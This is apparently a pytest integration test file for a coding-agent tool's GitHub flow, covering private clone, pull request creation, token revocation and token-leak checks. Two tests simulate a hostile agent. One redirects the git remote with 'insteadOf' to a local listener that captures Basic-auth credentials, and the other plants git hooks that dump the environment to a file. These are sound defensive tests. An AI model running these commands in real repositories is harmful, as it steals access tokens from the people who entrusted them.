"""From a private GitHub repository to a pull request, as a user does it with the CLI: a real
control plane and node (tests/support/sessions.py), the scripted agent, and the fake GitHub
(tests/support/github_fake.py), whose git smart-HTTP is the real `git http-backend` and takes
only a live token. Here the repository is reached with a personal access token (the `github`
credential); tests/integration/test_github_app.py does it through the GitHub App.

What a user would notice: the private clone authenticates; the agent's edit becomes a branch
`corral/...` and a pull request whose body tells the chat; running `session pr` again updates
the same pull request; a revoked token fails with a message saying so; and the token is in no
file, log, API answer or process environment once git is done with it.
"""

from __future__ import annotations

import base64
import http.server
import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.github_fake import FakeGitHub, fake_github
from tests.support.leaks import assert_in_no_file_or_environ
from tests.support.processes import corral_env, run_cli
from tests.support.sessions import (
    SCRIPTED_AGENT,
    SCRIPTED_AGENT_RUNTIME_SETTINGS,
    SessionSite,
    session_site,
)

WAIT_SECONDS = 90.0
REPO = "acme/widgets"


@dataclass
class Site:
    github: FakeGitHub
    session_site: SessionSite
    base: Path
    env: dict[str, str]
    token: str

    def run(self, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
        return run_cli(*args, env=self.env, input=input, timeout=WAIT_SECONDS)

    def ok(self, *args: str, input: str | None = None) -> str:
        result = self.run(*args, input=input)
        assert result.returncode == 0, f"corral {args}:\n{result.stdout}\n{result.stderr}"
        assert "Traceback" not in result.stderr, result.stderr
        return result.stdout

    def workspace(self, name: str) -> dict[str, object]:
        found: dict[str, object] = self.session_site.api.get(f"/workspaces/{name}")
        return found


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    base = tmp_path_factory.mktemp("github-flow")
    with fake_github(base / "github") as github:
        github.add_user("octo", name="Octo Cat", email="octo@example.com")
        github.add_repo(REPO, private=True, files={"README.md": "widgets\n"})
        token = github.add_personal_token("octo", [REPO])
        node_env = {"CORRAL_NODE_RUNTIME_SETTINGS": SCRIPTED_AGENT_RUNTIME_SETTINGS}
        server_env = {
            "CORRAL_GITHUB__WEB_URL": github.web_url,
            "CORRAL_GITHUB__API_URL": github.api_url,
        }
        files = {"README.md": "local\n"}
        with session_site(
            base, files, node_env=node_env, server_env=server_env, wait_seconds=WAIT_SECONDS
        ) as sessions:
            admin_env = corral_env(base / "server-home")
            made = run_cli("auth", "link", "--data-dir", str(base / "data"), env=admin_env)
            assert made.returncode == 0, made.stderr
            env = corral_env(base / "cli-home", base / "cli-home" / "config")
            site = Site(github, sessions, base, env, token)
            site.ok("login", made.stdout.strip())
            site.ok("agent", "add", "scripted", "--", sys.executable, str(SCRIPTED_AGENT))
            site.ok("agent", "configure", "scripted", "--policy", "allow-edits")
            site.ok("credentials", "set", "github", "--name", "gh", input=token + "\n")
            yield site


def test_a_private_repository_needs_the_token(site: Site) -> None:
    refused = site.run("project", "add", "anon", "--repo", site.github.repo(REPO).clone_url)
    assert refused.returncode == 1
    assert "not reachable" in refused.stderr, refused.stderr
    assert "Traceback" not in refused.stderr

    wrong_kind = site.run("credentials", "set", "env", "--name", "NOT_A_TOKEN", input="x" * 20)
    assert wrong_kind.returncode == 0, wrong_kind.stderr
    refused = site.run("project", "add", "bad", "--github", REPO, "--credential", "NOT_A_TOKEN")
    assert refused.returncode == 1
    assert "a repository is reached with a github credential" in refused.stderr


def test_from_private_clone_to_pull_request(site: Site) -> None:
    site.ok("project", "add", "widgets", "--github", REPO, "--credential", "gh")
    project = site.session_site.api.get("/projects/widgets")
    assert project["github_repo"] == REPO
    assert project["git_access"] == "credential"
    assert project["default_branch"] == "main"

    site.ok("workspace", "create", "widgets", "--name", "ww", "--node", "n1")
    workspace = site.workspace("ww")
    assert workspace["state"] == "running", workspace
    checkout = site.session_site.node_dir / "workspaces" / str(workspace["id"]) / "repo"
    assert (checkout / "README.md").read_text() == "widgets\n"
    config = (checkout / ".git" / "config").read_text()
    assert site.token not in config
    assert "name = owner" in config  # the agent's commits name the Corral user

    session_id = site.ok("session", "start", "ww", "--agent", "scripted").strip()
    site.ok(
        "session", "prompt", session_id, "permission path=feature.txt content=made-by-the-agent"
    )
    assert (checkout / "feature.txt").read_text() == "made-by-the-agent"

    out = site.ok("session", "pr", session_id, "--title", "Add the feature")
    pulls = [p for p in site.github.pulls if p.repo == REPO]
    assert len(pulls) == 1, pulls
    pull = pulls[0]
    assert pull.html_url in out
    assert pull.title == "Add the feature"
    assert pull.base == "main"
    assert re.fullmatch(r"corral/[a-z0-9-]+", pull.head), pull.head
    assert pull.body is not None
    assert "permission path=feature.txt" in pull.body  # the prompt
    assert "`feature.txt`" in pull.body  # the files changed
    assert f"/sessions/{session_id}" in pull.body  # the way back to the chat
    repo = site.github.repo(REPO)
    assert repo.read_file(pull.head, "feature.txt") == "made-by-the-agent"
    log = _git(repo.path, "log", "-1", "--format=%an <%ae>%n%B", pull.head)
    assert log.startswith("owner <owner@users.noreply.corral.invalid>"), log
    assert "Co-authored-by: scripted" in log

    shown = json.loads(site.ok("session", "pr", session_id, "--json"))  # nothing new: same PR
    assert shown["number"] == pull.number
    site.ok("session", "prompt", session_id, "permission path=second.txt content=more-work")
    again = json.loads(site.ok("session", "pr", session_id, "--json"))
    assert again["number"] == pull.number
    assert len([p for p in site.github.pulls if p.repo == REPO]) == 1
    assert repo.read_file(pull.head, "second.txt") == "more-work"
    assert again["url"] == pull.html_url

    activity = site.session_site.api.get("/activity")["items"]
    assert any(
        e["action"] == "pull_request.opened" and e["details"].get("url") == pull.html_url
        for e in activity
    ), activity

    _assert_nowhere(site, site.token)


def test_a_revoked_token_fails_the_clone_with_a_clear_message(site: Site) -> None:
    revoked = site.github.add_personal_token("octo", [REPO])
    site.ok("credentials", "set", "github", "--name", "soon-revoked", input=revoked)
    site.ok("project", "add", "revoked", "--github", REPO, "--credential", "soon-revoked")
    site.github.revoke(revoked)
    failed = site.run("workspace", "create", "revoked", "--name", "wr", "--node", "n1")
    assert failed.returncode != 0
    workspace = site.workspace("wr")
    assert workspace["state"] == "error", workspace
    reason = str(workspace["state_reason"])
    assert "Authentication failed" in reason or "could not read Username" in reason, reason
    assert revoked not in reason
    _assert_nowhere(site, revoked)


def _git(repo: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", "--git-dir", str(repo), *args], capture_output=True, text=True, timeout=30
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def _assert_nowhere(site: Site, token: str) -> None:
    """The token is in no file the control plane, node, CLI or workspaces wrote (their data,
    checkouts, homes and logs), no process's environment now that git is done, and no API
    answer."""
    assert_in_no_file_or_environ(site.base, [token], skip=[site.base / "github"])
    assert any(site.base.glob("serve-*.stderr")), "the control plane's log was not looked at"
    for route in ("/projects", "/credentials", "/activity", "/workspaces"):
        assert token not in json.dumps(site.session_site.api.get(route)), route


def test_a_rewritten_remote_gets_no_token(site: Site) -> None:
    """The workspace owns its `.git`: an agent that points GitHub's URL at its own server
    (`url.*.insteadOf`) gets the push, but not the token."""
    site.ok("project", "add", "hostile", "--github", REPO, "--credential", "gh")
    site.ok("workspace", "create", "hostile", "--name", "wh", "--node", "n1")
    session_id = site.ok("session", "start", "wh", "--agent", "scripted").strip()
    with _listener() as (evil_url, heard):
        for command in (
            f"git config url.{evil_url}/.insteadOf {site.github.web_url}/",
            "echo change > hostile.txt",
        ):
            site.ok("session", "prompt", session_id, f"terminal cmd={command}")
        failed = site.run("session", "pr", session_id)
        assert failed.returncode == 1
        assert "git push failed" in failed.stderr, failed.stderr
        assert site.token not in failed.stderr
        assert heard, "the rewritten remote was never asked: the test proves nothing"
        assert all(site.token not in request for request in heard), heard


def test_a_planted_hook_does_not_run_beside_the_token(site: Site, tmp_path: Path) -> None:
    """A pre-push hook would run with the push's environment, token and all: Corral's push
    runs none, and the push still succeeds."""
    site.ok("project", "add", "hooked", "--github", REPO, "--credential", "gh")
    site.ok("workspace", "create", "hooked", "--name", "wk", "--node", "n1")
    session_id = site.ok("session", "start", "wk", "--agent", "scripted").strip()
    stolen = tmp_path / "hook-saw"
    hook = f"#!/bin/sh\\nenv > {stolen}\\n"
    for command in (
        f"printf '{hook}' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push",
        f"printf '{hook}' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "echo change > hooked.txt",
    ):
        site.ok("session", "prompt", session_id, f"terminal cmd={command}")
    pushed = json.loads(site.ok("session", "pr", session_id, "--json"))
    assert site.github.repo(REPO).read_file(pushed["branch"], "hooked.txt") == "change\n"
    assert not stolen.exists(), "a workspace's hook ran beside the token"


@contextmanager
def _listener() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 that asks for basic auth (as a forge does) and keeps every
    request's head, to see whether a credential is sent to it."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            authorization = self.headers.get("Authorization", "")
            scheme, _, value = authorization.partition(" ")
            if scheme.lower() == "basic":  # what git sends: user:password in base64
                value = base64.b64decode(value + "==").decode(errors="replace")
            heard.append(f"{self.requestline}\n{self.headers}\n{value}")
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="evil"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            return

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)
